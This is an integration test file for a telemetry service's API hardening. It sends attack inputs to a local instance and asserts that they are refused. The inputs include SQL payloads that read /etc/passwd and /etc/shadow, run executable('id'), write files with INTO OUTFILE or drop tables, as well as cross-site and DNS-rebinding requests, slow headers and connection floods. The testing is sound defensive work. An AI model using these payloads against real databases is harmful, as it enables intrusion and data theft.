"""Hostile clients against a running `is-telemetry up` (real HTTP, real chDB, real broker, all on 127.0.0.1).

Every attack of the API-hardening issue, written down before its door was closed: SQL that writes, reads the
host or writes files; cross-site requests; queries without limits and clients that hang up; analyst queries
beside ingestion; connection floods under a 1,024 file-descriptor limit; slow and huge headers; huge bodies;
a uid with a trailing newline; formula cells in CSV exports. Each test asserts on what the pipeline stored and
answered, not on timings. docs/reliability.md lists them with what was measured.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import os
import resource
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from core.statefile import process_started
from is_telemetry import apiclient
from is_telemetry.broker import free_port
from is_telemetry.runtime import stop_process
from tests.samples import SAMPLES
from tests.stack import RunningStack, start_stack

pytestmark = pytest.mark.integration


QUERY_TIMEOUT_S = 20
HEADER_TIMEOUT_S = 2
FD_LIMIT = 1024
HEAVY = "SELECT count() FROM numbers(1e13)"  # hours of work without a limit
JSON = {"content-type": "application/json"}
TABLES = {"schema_migrations", "snapshots", "rejections", "daily_rollup"}


def _low_fd_limit() -> None:
    resource.setrlimit(resource.RLIMIT_NOFILE, (FD_LIMIT, FD_LIMIT))


@pytest.fixture(scope="module")
def stack(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningStack]:
    env = {
        "IS_TELEMETRY_API__QUERY_TIMEOUT_S": str(QUERY_TIMEOUT_S),
        "IS_TELEMETRY_API__QUERY_MAX_MEMORY_BYTES": "300000000",
        "IS_TELEMETRY_API__QUERY_QUEUE_S": "1",
        "IS_TELEMETRY_API__HEADER_TIMEOUT_S": str(HEADER_TIMEOUT_S),
        "IS_TELEMETRY_COLLECTOR__HEADER_TIMEOUT_S": str(HEADER_TIMEOUT_S),
    }
    s = start_stack(tmp_path_factory.mktemp("hostile") / "stack", "--no-simulate", env=env, preexec_fn=_low_fd_limit)
    try:
        yield s
    finally:
        s.stop()


# -------------------------------------------------------------------------------------------------- helpers


def body_for(seed: str, plans: dict[str, int] | None = None, uid_suffix: str = "") -> bytes:
    message = orjson.loads(SAMPLES["is-3.32.json"])
    message["uid"] = base64.b64encode(hashlib.sha512(seed.encode()).digest()).decode() + uid_suffix
    if plans is not None:
        message["entities_count"]["gateways"]["gateways_by_frequency_plan_id"] = dict(sorted(plans.items()))
        message["entities_count"]["gateways"]["total"] = sum(plans.values())
    return orjson.dumps(message)


def post(stack: RunningStack, body: bytes) -> None:
    r = httpx.post(stack.collector_url, content=body, headers=JSON, timeout=15)
    assert r.status_code == 202, r.text


def uid_of(body: bytes) -> str:
    return str(orjson.loads(body)["uid"])


def stored(stack: RunningStack, uid: str) -> int:
    rows = stack.sql(f"SELECT count() AS n FROM snapshots WHERE uid = '{uid}'")
    return int(rows[0]["n"])


def wait_stored(stack: RunningStack, uid: str, timeout_s: float = 60) -> None:
    deadline = time.monotonic() + timeout_s
    while stored(stack, uid) == 0:
        assert time.monotonic() < deadline, f"{uid} never reached ClickHouse\n{stack.log()}"
        time.sleep(0.1)


def sql_http(stack: RunningStack, query: str, timeout_s: float = 60, **kwargs: Any) -> httpx.Response:
    return httpx.post(stack.api_url + "/api/sql", json={"query": query}, timeout=timeout_s, **kwargs)


def assert_intact_and_ingesting(stack: RunningStack, seed: str) -> None:
    names = {
        r["table_name"]
        for r in stack.sql("SELECT table_name FROM information_schema.tables WHERE table_schema = currentDatabase()")
    }
    assert TABLES <= names, names
    body = body_for(seed)
    post(stack, body)
    wait_stored(stack, uid_of(body))


def worker_pid(stack: RunningStack) -> int:
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        try:
            cmd = (entry / "cmdline").read_bytes().split(b"\0")
        except OSError:
            continue
        if b"worker" in cmd and str(stack.data_dir).encode() in b" ".join(cmd):
            return int(entry.name)
    raise AssertionError("worker process not found")


def rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


def running_heavy(stack: RunningStack) -> int:
    """Analyst statements holding a ClickHouse session now (the API's gauge: analysts' SQL may not read
    system.processes, which shows other sessions' queries)."""
    return int(metric(stack, RUNNING))


def metric(stack: RunningStack, series: str) -> float:
    """A series of the worker's /metrics (readable when every SQL session is busy)."""
    return (apiclient.metrics(stack.api_url + "/metrics") or {}).get(series, 0.0)


BUSY = 'is_telemetry_api_sql_queries_total{outcome="busy"}'
RUNNING = "is_telemetry_api_sql_running"
SNAPSHOT_ROWS = 'is_telemetry_sink_rows_total{table="snapshots"}'


def wait_until(predicate: Any, timeout_s: float, what: str) -> None:
    deadline = time.monotonic() + timeout_s
    while not predicate():
        assert time.monotonic() < deadline, what
        time.sleep(0.1)


def raw_exchange(port: int, data: bytes, read_timeout_s: float = 10) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=read_timeout_s) as s:
        try:
            s.sendall(data)
        except (BrokenPipeError, ConnectionResetError):
            pass
        out = b""
        try:
            while chunk := s.recv(65536):
                out += chunk
        except (ConnectionResetError, TimeoutError):
            pass
    return out


def port_of(url: str) -> int:
    return int(url.split(":")[2].split("/")[0])


# ---------------------------------------------------------------------------- SQL: read-only by construction

REFUSALS = {"writes_not_allowed", "not_allowed"}  # 403: a write, or something not on an allowlist
REFUSED_SQL = [
    ("\ufeffDROP TABLE snapshots; SELECT 1", 400, "query_failed"),  # BOM + two statements: one statement only
    ("SELECT 1; DROP TABLE snapshots", 400, "query_failed"),
    ("DROP TABLE snapshots", 403, "writes_not_allowed"),
    ("\ufeff DROP TABLE snapshots", 403, "writes_not_allowed"),
    ("/* c */ TRUNCATE TABLE daily_rollup", 403, "writes_not_allowed"),
    ("INSERT INTO rejections (day, reason) VALUES ('2025-01-01', 'forged')", 403, "writes_not_allowed"),
    ("ALTER TABLE snapshots DELETE WHERE 1", 403, "writes_not_allowed"),
    ("CREATE TABLE intruder (a UInt8) ENGINE = Memory", 403, "writes_not_allowed"),
    ("OPTIMIZE TABLE snapshots FINAL", 403, "writes_not_allowed"),
    ("KILL QUERY WHERE 1", 403, "writes_not_allowed"),
    ("SYSTEM SHUTDOWN", 403, "writes_not_allowed"),
    ("SET readonly = 0", 403, "writes_not_allowed"),
    ("SELECT 1 SETTINGS readonly = 0", 403, "writes_not_allowed"),
    ("SELECT 1 SETTINGS max_execution_time = 0", 403, "writes_not_allowed"),
    ("SELECT file('/etc/passwd')", 403, "outside_database"),
    ("SELECT substring(file('/etc/passwd'), 1, 10)", 403, "outside_database"),
    ("SELECT * FROM file('/etc/passwd', LineAsString)", 403, "outside_database"),
    ("DESCRIBE TABLE file('/etc/passwd')", 403, "outside_database"),
    ("SELECT * FROM url('http://127.0.0.1:9/', LineAsString)", 403, "outside_database"),
    ("SELECT * FROM s3('http://127.0.0.1:9/b/k.csv')", 403, "outside_database"),
    ("SELECT * FROM executable('id', TSV, 'a String')", 403, "outside_database"),
    ("SELECT * FROM remote('127.0.0.1:9', system.one)", 403, "outside_database"),
    ("SELECT * FROM filesystem('/etc')", 403, "outside_database"),
    ("SELECT * FROM python('x')", 403, "outside_database"),
    ("WITH (SELECT file('/etc/hostname')) AS h SELECT h", 403, "outside_database"),
    # issue 22: doors a check of named cases missed; each is now off an allowlist
    ("SELECT * APPLY(file) FROM (SELECT '/etc/passwd' AS p)", 403, "not_allowed"),  # APPLY names no Function
    ("SELECT COLUMNS('p') APPLY(file) FROM (SELECT '/etc/passwd' AS p)", 403, "not_allowed"),
    ("SELECT arrayMap(file, ['/etc/passwd'])", 403, "not_allowed"),  # an Identifier naming a function
    ("SELECT arrayMap(x -> file(x), ['/etc/passwd'])", 403, "not_allowed"),
    ("SELECT * FROM '/etc/passwd'", 403, "not_allowed"),  # chDB's default database reads a path named as a table
    ("SELECT * FROM `/etc/passwd`", 403, "not_allowed"),
    ("SELECT * FROM default.`/etc/passwd`", 403, "not_allowed"),
    ("SELECT * FROM (WITH `/etc/passwd` AS (SELECT 1) SELECT 1), `/etc/passwd`", 403, "not_allowed"),
    ("SELECT aiGenerate('write me a poem')", 403, "not_allowed"),  # a function no list names
    ("SELECT * FROM merge('.*')", 403, "not_allowed"),
    ("SELECT 1 FORMAT JSON", 403, "not_allowed"),
    # the outside attack (docs/reliability.md): a file-existence oracle, other sessions' queries, host paths, and
    # functions whose one row can outlast every time limit
    ("SELECT 1 IN `/etc/shadow`", 403, "not_allowed"),  # was READONLY for a file that exists...
    ("SELECT 1 IN `/etc/no-such-file`", 403, "not_allowed"),  # ... and UNKNOWN_IDENTIFIER for one that does not
    ("SELECT 1 GLOBAL NOT IN `/etc/shadow`", 403, "not_allowed"),
    ("SELECT query FROM system.processes", 403, "not_allowed"),
    ("SELECT query FROM system.query_log", 403, "not_allowed"),
    ("SELECT data_paths FROM system.tables", 403, "not_allowed"),
    (
        "SELECT sum(levenshteinDistance(repeat('a', 65536), repeat(toString(number % 2), 65536))) FROM numbers(12)",
        403,
        "not_allowed",
    ),
    ("SELECT arrayFold((acc, x) -> acc + x, range(20000000), toUInt64(0))", 403, "not_allowed"),
]


@pytest.mark.parametrize(("query", "status", "code"), REFUSED_SQL, ids=[q[:40] for q, _, _ in REFUSED_SQL])
def test_sql_that_writes_or_reaches_the_host_is_refused(
    stack: RunningStack, query: str, status: int, code: str
) -> None:
    r = sql_http(stack, query)
    assert r.status_code == status, r.text
    assert r.json()["error"] in ({code} if status == 400 else REFUSALS), r.text
    assert "root:" not in r.text


def test_into_outfile_writes_no_file(stack: RunningStack, tmp_path: Path) -> None:
    target = tmp_path / "written-by-an-analyst"
    r = sql_http(stack, f"SELECT 'pwned' INTO OUTFILE '{target}' TRUNCATE")
    assert r.status_code == 403 and r.json()["error"] in REFUSALS, r.text
    assert not target.exists()
    # ... while a string or name that merely says INTO OUTFILE is a harmless query
    r = sql_http(stack, "SELECT 'INTO OUTFILE' AS `INTO OUTFILE`")
    assert r.json() == {"columns": ["INTO OUTFILE"], "types": ["String"], "rows": [["INTO OUTFILE"]]}, r.text


def test_tables_survive_the_refused_statements(stack: RunningStack) -> None:
    for query, _, _ in REFUSED_SQL:
        sql_http(stack, query)
    assert_intact_and_ingesting(stack, "after-refused-sql")


_PREFIXES = st.sampled_from(["", "\ufeff", " \n\t", "/* x */ ", "-- c\n", "(", "\ufeff\ufeff"])
_STATEMENTS = st.sampled_from(
    [
        "SELECT 1",
        "select count() from snapshots",
        "WITH 1 AS x SELECT x",
        "SHOW TABLES",
        "DESCRIBE snapshots",
        "EXPLAIN SELECT 1",
        "DROP TABLE snapshots",
        "drop table if exists rejections",
        "TRUNCATE daily_rollup",
        "INSERT INTO snapshots (uid) VALUES ('x')",
        "ALTER TABLE snapshots DROP COLUMN body",
        "RENAME TABLE snapshots TO s2",
        "DETACH TABLE snapshots",
        "CREATE DATABASE evil",
        "SET allow_ddl = 1",
        "SELECT file('/etc/passwd')",
        "SELECT * FROM file('/etc/shadow')",
        "KILL QUERY WHERE 1",
        "SYSTEM DROP MARK CACHE",
        "USE system",
        "SELECT 1 INTO OUTFILE '/tmp/x'",
        "EXCHANGE TABLES snapshots AND rejections",
        "GRANT ALL ON *.* TO default",
        "SELECT 1 FORMAT TabSeparated",
        "DELETE FROM snapshots WHERE 1",
        "UNDROP TABLE snapshots",
        "BACKUP TABLE snapshots TO Disk('default', 'x')",
    ]
)
_SEPARATORS = st.sampled_from(["", ";", "; ", ";\n", " -- ;", "; --", "\n;\n"])


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    prefix=_PREFIXES,
    first=_STATEMENTS,
    sep=_SEPARATORS,
    second=st.one_of(st.just(""), _STATEMENTS),
    noise=st.text(max_size=12),
)
def test_generated_sql_never_writes(
    stack: RunningStack, prefix: str, first: str, sep: str, second: str, noise: str
) -> None:
    query = prefix + first + sep + second + (noise if noise.strip() else "")
    r = sql_http(stack, query)
    assert r.status_code in (200, 400, 403, 503), (query, r.status_code, r.text)
    if r.status_code == 200:  # only reading statements ever run
        first_word = first.split(None, 1)[0].upper()
        assert first_word in ("SELECT", "WITH", "SHOW", "DESCRIBE", "EXPLAIN"), (query, r.text)


def test_generated_sql_left_everything_in_place(stack: RunningStack) -> None:
    names = {r["schema_name"] for r in stack.sql("SELECT schema_name FROM information_schema.schemata")}
    assert "evil" not in names
    assert_intact_and_ingesting(stack, "after-generated-sql")


# --------------------------------------------------------------------------------- browsers and tokens


def test_cross_site_requests_are_refused(stack: RunningStack) -> None:
    api = stack.api_url
    # A "simple" cross-site POST (no CORS preflight) is text/plain or a form: not accepted.
    for content_type in ("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", ""):
        r = httpx.post(api + "/api/sql", content=b'{"query": "SELECT 1"}', headers={"content-type": content_type})
        assert r.status_code == 415, (content_type, r.text)
    for headers in (
        {"origin": "http://evil.example"},
        {"origin": "null"},
        {"sec-fetch-site": "cross-site"},
        {"sec-fetch-site": "same-site"},
        {"origin": "http://127.0.0.1:1"},
    ):
        r = httpx.post(api + "/api/sql", json={"query": "SELECT 1"}, headers=headers)
        assert (r.status_code, r.json()["error"]) == (403, "cross_site"), (headers, r.text)
        r = httpx.get(api + "/api/summary", headers=headers)
        assert r.status_code == 403, (headers, r.text)
    # DNS rebinding: a page on evil.example resolving to 127.0.0.1 is "same-origin" with itself
    host = {"host": "evil.example", "origin": "http://evil.example", "sec-fetch-site": "same-origin"}
    assert httpx.post(api + "/api/sql", json={"query": "SELECT 1"}, headers=host).status_code == 403
    # the dashboard's own requests (same origin) and tools (no Origin) pass
    own = {"origin": api, "sec-fetch-site": "same-origin"}
    assert httpx.post(api + "/api/sql", json={"query": "SELECT 1"}, headers=own).status_code == 200
    assert httpx.get(api + "/api/summary", headers=own).status_code == 200
    assert httpx.get(api + "/", headers={"sec-fetch-site": "none"}).status_code == 200


def test_the_api_refuses_to_listen_beyond_loopback_without_a_token(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("IS_TELEMETRY_")}
    for args in (
        ["api", "--host", "0.0.0.0", "--port", str(free_port())],
        ["up", "--api-host", "0.0.0.0", "--no-simulate", "--data-dir", str(tmp_path / "d")],
        ["worker", "--api-port", str(free_port())],
    ):
        run_env = {**env, "IS_TELEMETRY_API__HOST": "0.0.0.0"} if args[0] == "worker" else env
        done = subprocess.run(
            [sys.executable, "-m", "is_telemetry", *args],
            capture_output=True,
            text=True,
            env=run_env,
            timeout=60,
            cwd=tmp_path,
        )
        assert done.returncode == 2, (args, done.stdout, done.stderr)
        assert "without a token" in done.stderr and "IS_TELEMETRY_API__TOKEN" in done.stderr, done.stderr
    assert not (tmp_path / "d").exists()  # refused before anything started


def test_a_token_protects_the_api_beyond_loopback(tmp_path: Path) -> None:
    port = free_port()
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("IS_TELEMETRY_")},
        "IS_TELEMETRY_API__TOKEN": "t0ken-for-the-test",
    }
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "is_telemetry",
            "api",
            "--host",
            "0.0.0.0",
            "--port",
            str(port),
            "--clickhouse",
            f"chdb://{tmp_path / 'chdb'}",
        ],
        env=env,
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
    )
    url = f"http://127.0.0.1:{port}"
    try:
        wait_until(lambda: _answers(url + "/healthz"), 60, "the API did not start")
        assert httpx.post(url + "/api/sql", json={"query": "SELECT 1"}).status_code == 401
        ok = httpx.post(
            url + "/api/sql", json={"query": "SELECT 1"}, headers={"authorization": "Bearer t0ken-for-the-test"}
        )
        assert ok.json() == {"columns": ["1"], "types": ["UInt8"], "rows": [[1]]}, ok.text
        evil = httpx.post(
            url + "/api/sql",
            json={"query": "SELECT 1"},
            headers={"authorization": "Bearer t0ken-for-the-test", "origin": "http://evil.example"},
        )
        assert evil.status_code == 403
    finally:
        stop_process(proc, 30)


def _answers(url: str) -> bool:
    try:
        return httpx.get(url, timeout=1).status_code == 200
    except httpx.HTTPError:
        return False


# ----------------------------------------------------------------------------------- limits on a query


@pytest.mark.parametrize(
    ("query", "clickhouse_error"),
    [
        ("SELECT groupArray(number) FROM numbers(1e9)", "MEMORY_LIMIT_EXCEEDED"),
        ("SELECT range(100000000)", "MEMORY_LIMIT_EXCEEDED"),  # one row holding a 1e8-element array
        ("SELECT number FROM numbers(1e7)", "TOO_MANY_ROWS_OR_BYTES"),  # streamed, then stopped at 100k rows
        # 90 MB in < 100k rows: streamed, then cut at the byte cap
        ("SELECT repeat(toString(number % 10), 1000) FROM numbers(90000)", "result_too_large|TOO_MANY_ROWS_OR_BYTES"),
        ("SELECT repeat('x', 10000) FROM numbers(90000)", "result_too_large|TOO_MANY_ROWS_OR_BYTES"),
        ("SELECT arrayWithConstant(300, tuple()) FROM numbers(100000)", "result_too_large"),  # 90 MB of JSON
    ],
)
def test_expensive_queries_are_stopped_by_clickhouse(stack: RunningStack, query: str, clickhouse_error: str) -> None:
    pid = worker_pid(stack)
    r = sql_http(stack, query)
    error = r.json() if r.status_code != 200 else r.json().get("error", {})  # streamed: it ends with its error
    assert error.get("clickhouse_error", error.get("error")) in clickhouse_error.split("|"), r.text[-300:]
    assert len(r.content) <= 32 * 1024 * 1024 + 4096  # api.query_max_result_bytes, and the error
    assert rss_mb(pid) < 2500  # the worker stays alive and within bounds
    assert sql_http(stack, "SELECT 1").status_code == 200


def test_the_body_limit_is_checked_while_reading(stack: RunningStack) -> None:
    port = port_of(stack.api_url)
    head = b"POST /api/sql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
    # announced: refused before a byte of the body is sent
    answer = raw_exchange(port, head + b"Content-Length: 524288000\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    # chunked, never announced: cut off soon after the limit instead of read to the end
    with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
        s.sendall(head + b"Transfer-Encoding: chunked\r\n\r\n")
        chunk = b"%x\r\n%s\r\n" % (65536, b" " * 65536)
        sent, answer = 0, b""
        try:
            while sent < 100 * 65536:
                s.sendall(chunk)
                sent += 65536
                s.settimeout(0.05)
                try:
                    answer = s.recv(4096)
                except TimeoutError:
                    continue
                if answer:
                    break
        except (BrokenPipeError, ConnectionResetError):
            pass
    assert answer.startswith(b"HTTP/1.1 413"), answer[:200]
    assert sent < 40 * 65536  # the server stopped reading long before the 6.5 MB were sent


# --------------------------------------------------------------------- analyst queries beside ingestion


def test_an_expensive_query_never_stalls_ingestion(stack: RunningStack) -> None:
    outcome: dict[str, Any] = {}

    def heavy() -> None:
        started = time.monotonic()
        r = sql_http(stack, HEAVY, timeout_s=QUERY_TIMEOUT_S + 30)
        outcome.update(status=r.status_code, body=r.json(), seconds=time.monotonic() - started)

    thread = threading.Thread(target=heavy)
    thread.start()
    wait_until(lambda: bool(running_heavy(stack)), 10, "the heavy query never started")
    latencies = []
    for i in range(5):
        body = body_for(f"beside-a-heavy-query-{i}")
        started = time.monotonic()
        post(stack, body)
        wait_stored(stack, uid_of(body))
        latencies.append(time.monotonic() - started)
        assert thread.is_alive(), "the heavy query ended before ingestion was shown to go on beside it"
    # more analyst queries than sessions: the extra ones wait briefly, then 503; ingestion and the dashboard go on
    results: list[int] = []
    busy_before = metric(stack, BUSY)
    threads = [
        threading.Thread(
            target=lambda: results.append(sql_http(stack, HEAVY, timeout_s=QUERY_TIMEOUT_S + 30).status_code)
        )
        for _ in range(6)
    ]
    for t in threads:
        t.start()
    # 3 of the 6 take the 3 free sessions (the first heavy query holds the 4th); the other 3 are turned away
    wait_until(lambda: metric(stack, BUSY) >= busy_before + 3, 15, "the extra queries were not turned away")
    before = metric(stack, SNAPSHOT_ROWS)
    body = body_for("beside-many-heavy-queries")
    post(stack, body)
    wait_until(lambda: metric(stack, SNAPSHOT_ROWS) > before, 60, "nothing was written while the sessions were busy")
    assert httpx.get(stack.api_url + "/api/summary", timeout=10).status_code == 200  # the dashboard's own sessions
    busy_while_stored = any(t.is_alive() for t in threads)
    for t in threads:
        t.join()
    thread.join()
    wait_stored(stack, uid_of(body))
    assert busy_while_stored, "the heavy queries ended before the write was shown to go on beside them"
    assert outcome["status"] == 400 and outcome["body"]["clickhouse_error"] == "TIMEOUT_EXCEEDED", outcome
    assert results.count(503) >= 3 and set(results) <= {400, 503}, results  # 4 sessions: the rest were turned away
    print(f"post-to-stored beside a {HEAVY!r}: {', '.join(f'{x:.2f}s' for x in latencies)}")


def test_a_client_that_hangs_up_cancels_its_query(stack: RunningStack) -> None:
    port = port_of(stack.api_url)
    payload = orjson.dumps({"query": HEAVY})
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    s.sendall(
        b"POST /api/sql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        b"Content-Length: %d\r\n\r\n%s" % (len(payload), payload)
    )
    wait_until(lambda: bool(running_heavy(stack)), 10, "the query never started")
    hung_up = time.monotonic()
    s.close()
    deadline = hung_up + QUERY_TIMEOUT_S + 10
    while (running := running_heavy(stack)) and time.monotonic() < deadline:
        time.sleep(0.1)
    stopped_after = time.monotonic() - hung_up
    assert not running, "the abandoned query is still running"
    assert stopped_after < QUERY_TIMEOUT_S / 2, (
        f"it ran {stopped_after:.1f}s on: stopped by its time limit, not cancelled"
    )
    print(f"abandoned query stopped {stopped_after:.2f}s after its client hung up")


def test_a_fifo_named_as_a_table_is_refused_before_anything_reads_it(stack: RunningStack, tmp_path: Path) -> None:
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)  # read, it blocks for ever: beyond ClickHouse's time limit and KILL
    for query in (f"SELECT * FROM `{fifo}`", f"SELECT * APPLY(file) FROM (SELECT '{fifo}' AS p)"):
        started = time.monotonic()
        r = sql_http(stack, query, timeout_s=10)
        assert r.status_code == 403 and r.json()["error"] == "not_allowed", r.text
        assert time.monotonic() - started < 5
    assert not running_heavy(stack)


TYPED = (
    "SELECT toIPv4('1.2.3.4') AS ip4, toIPv6('::1') AS ip6, toUUID('61f0c404-5cb3-11e7-907b-a6006ad3dba0') AS id, "
    "toDecimal64(1.5, 3) AS dec, map('a', 1) AS m, [1.5, 2] AS arr, (1, 'x') AS tup, toInt128(-1) AS i128, "
    "toUInt256(2) AS u256, 18446744073709551615 AS u64, CAST('b', 'Enum8(\\'a\\' = 1, \\'b\\' = 2)') AS e, "
    "toDateTime64('2025-01-02 03:04:05.678', 3, 'UTC') AS t64, toDate('2025-01-02') AS d, CAST(NULL, 'Nullable(String)') AS n, true AS b, "
    "toLowCardinality('lc') AS lc, 'a\\nb\\x1b[31m' AS s"
)


def test_a_literal_that_is_not_utf8_is_answered_in_valid_json(stack: RunningStack) -> None:
    for query in ("SELECT '\\xff' AS x", "SELECT unhex('FF80') AS x, 'ok' AS y"):
        r = sql_http(stack, query)
        assert r.status_code == 200, r.text  # was 500, with two tracebacks
        assert r.json()["rows"][0][0] == "\ufffd" * len(r.json()["rows"][0][0])
    assert "Traceback" not in (stack.data_dir / "logs" / "worker.log").read_text(errors="replace")


def test_every_type_is_answered_in_every_format(stack: RunningStack) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    r = sql_http(stack, TYPED)
    assert r.status_code == 200, r.text  # toIPv4 was a 500 with two tracebacks when results became Python values
    body = r.json()
    row = dict(zip(body["columns"], body["rows"][0]))
    assert row["ip4"] == "1.2.3.4" and row["id"] == "61f0c404-5cb3-11e7-907b-a6006ad3dba0"
    assert row["u64"] == 18446744073709551615 and row["m"] == {"a": 1} and row["s"] == "a\nb\x1b[31m"
    assert body["types"][body["columns"].index("ip4")] == "IPv4"
    for fmt in ("csv", "tsv"):
        r = httpx.post(stack.api_url + "/api/sql", json={"query": TYPED, "format": fmt}, timeout=30)
        assert r.status_code == 200 and r.text.startswith('"ip4"' if fmt == "csv" else "ip4"), r.text[:200]
        rows = list(csv.reader(io.StringIO(r.text), delimiter="," if fmt == "csv" else "\t"))
        assert len(rows) == 2 and len(rows[1]) == len(rows[0]), rows  # the header and the one row
    r = httpx.post(stack.api_url + "/api/sql", json={"query": TYPED, "format": "parquet"}, timeout=30)
    assert r.status_code == 200 and pq.read_table(io.BytesIO(r.content)).num_rows == 1
    r = httpx.post(stack.api_url + "/api/sql", json={"query": TYPED, "format": "arrow"}, timeout=30)
    assert r.status_code == 200 and pa.ipc.open_stream(r.content).read_all().num_rows == 1
    assert "Traceback" not in stack.log()


BLOW_UP = "SELECT arrayWithConstant(300, tuple()) FROM numbers(100000)"  # ~8 bytes a row to ClickHouse, 900 as JSON
RESULT_CAP = 32 * 1024 * 1024


def test_one_result_cannot_grow_the_worker(stack: RunningStack) -> None:
    pid = worker_pid(stack)
    before = rss_mb(pid)
    peak = before
    answers: list[httpx.Response] = []
    threads = [threading.Thread(target=lambda: answers.append(sql_http(stack, BLOW_UP))) for _ in range(4)]
    for t in threads:
        t.start()
    while any(t.is_alive() for t in threads):
        peak = max(peak, rss_mb(pid))
        time.sleep(0.05)
    for r in answers:  # each streamed up to the cap, then ended with its error: still valid JSON
        assert r.status_code == 200 and len(r.content) <= RESULT_CAP + 4096
        assert r.json()["error"]["error"] == "result_too_large"
    # measured before: 1.5 GB -> 3.7 GB; now each query holds one chunk at a time
    assert peak - before < 4 * RESULT_CAP / 2**20, f"RSS {before:.0f} -> {peak:.0f} MB"
    print(f"worker RSS with 4 x {BLOW_UP!r}: {before:.0f} -> {peak:.0f} MB")


def test_a_text_result_cut_short_is_not_taken_for_a_whole_one(stack: RunningStack) -> None:
    with pytest.raises(httpx.RemoteProtocolError):  # the chunked body never ends: no reader takes it as complete
        with httpx.stream("POST", stack.api_url + "/api/sql", json={"query": BLOW_UP, "format": "csv"}) as r:
            assert r.status_code == 200
            tail = b""
            for chunk in r.iter_bytes():
                tail = (tail + chunk)[-300:]
    assert b"\n#error result_too_large: " in tail
    worker_log = (stack.data_dir / "logs" / "worker.log").read_text(errors="replace")
    assert "without completing response" not in worker_log  # cut on purpose, logged at INFO with its reason


def test_waiting_is_bounded_and_abandoned_work_never_runs(stack: RunningStack) -> None:
    """4 sessions, api.query_queue_s = 1: a fifth request waits at most that long, in all; the work of clients that
    hung up is dropped before it starts, or cancelled."""
    port = port_of(stack.api_url)
    payload = orjson.dumps({"query": HEAVY})
    request = (
        b"POST /api/sql HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        b"Content-Length: %d\r\n\r\n%s" % (len(payload), payload)
    )
    holders = [socket.create_connection(("127.0.0.1", port), timeout=30) for _ in range(4)]
    for s in holders:
        s.sendall(request)
    wait_until(lambda: metric(stack, RUNNING) == 4, 15, "the four heavy queries did not start")
    waits: list[float] = []

    def one() -> None:
        started = time.monotonic()
        r = sql_http(stack, "SELECT 1", timeout_s=60)
        waits.append(time.monotonic() - started)
        assert r.status_code == 503 and r.json()["error"] == "busy", r.text

    threads = [threading.Thread(target=one) for _ in range(12)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert max(waits) < 1 + 3, waits  # api.query_queue_s, and a little time to answer
    # waiting clients that hang up: dropped, never run
    waiting = [socket.create_connection(("127.0.0.1", port), timeout=30) for _ in range(6)]
    for s in waiting:
        s.sendall(request)
    time.sleep(0.3)
    for s in waiting + holders:  # every client hangs up: the running queries are cancelled too
        s.close()
    wait_until(lambda: not running_heavy(stack), 15, "abandoned queries still run")
    time.sleep(1.5)  # longer than the queue wait: a dropped request that started anyway would show now ...
    wait_until(lambda: not running_heavy(stack), 10, "an abandoned request ran")  # ... and be cancelled at once
    started = time.monotonic()
    assert sql_http(stack, "SELECT 1").status_code == 200
    assert time.monotonic() - started < 2, "a free session was still held by abandoned work"


# ---------------------------------------------------------------------------------- the HTTP edges


@pytest.mark.parametrize("which", ["api", "collector"])
def test_slow_and_huge_headers_are_cut_off(stack: RunningStack, which: str) -> None:
    port = port_of(stack.api_url if which == "api" else stack.collector_url)
    # headers that never end: 408 once the header timeout passes
    answer = raw_exchange(
        port, b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ", read_timeout_s=HEADER_TIMEOUT_S + 10
    )
    assert answer.startswith(b"HTTP/1.1 408"), answer[:200]
    # a connection that sends nothing at all is closed the same way
    assert raw_exchange(port, b"", read_timeout_s=HEADER_TIMEOUT_S + 10).startswith(b"HTTP/1.1 408")
    # a 10 MB header line: 431 without buffering it
    answer = raw_exchange(
        port, b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Big: " + b"a" * 10_000_000 + b"\r\n\r\n"
    )
    assert answer.startswith(b"HTTP/1.1 431"), answer[:200]
    # and normal requests are untouched
    assert httpx.get(f"http://127.0.0.1:{port}/healthz").status_code == 200


def test_connection_floods_under_a_1024_descriptor_limit(stack: RunningStack) -> None:
    socks: list[socket.socket] = []
    try:
        for url in (stack.api_url, stack.collector_url):
            port = port_of(url)
            for _ in range(2 * FD_LIMIT):  # idle connections, twice the processes' descriptor limit
                socks.append(socket.create_connection(("127.0.0.1", port), timeout=10))
            for _ in range(200):  # connections whose headers never end
                s = socket.create_connection(("127.0.0.1", port), timeout=10)
                s.sendall(b"POST /collect HTTP/1.1\r\nHost: x\r\n")
                socks.append(s)
        # every client is still served: idle connections made room
        assert httpx.get(stack.api_url + "/healthz", timeout=10).status_code == 200
        assert sql_http(stack, "SELECT 1").status_code == 200
        assert_intact_and_ingesting(stack, "during-a-connection-flood")
    finally:
        for s in socks:
            s.close()
    logs = stack.data_dir / "logs"
    worker_log = (logs / "worker.log").read_text(errors="replace")
    assert "Too many open files" not in worker_log and "epoll" not in worker_log
